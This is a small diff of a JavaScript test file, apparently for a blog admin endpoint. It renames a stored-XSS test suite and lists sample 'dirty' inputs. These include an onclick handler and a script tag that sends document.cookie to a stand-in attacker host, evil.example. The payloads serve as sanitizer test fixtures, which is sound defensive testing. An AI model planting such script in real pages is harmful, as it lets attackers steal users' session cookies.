@@ -89,7 +89,7 @@ describe('POST /api/admin/blog-posts', () => {
   });
 });
 
-describe('stored XSS (D17)', () => {
+describe('stored XSS (BLOG-5)', () => {
   const dirty = [
     '<h2 onclick="steal()">Tips</h2>',
     '<script>document.location="https://evil.example/?c="+document.cookie</script>',
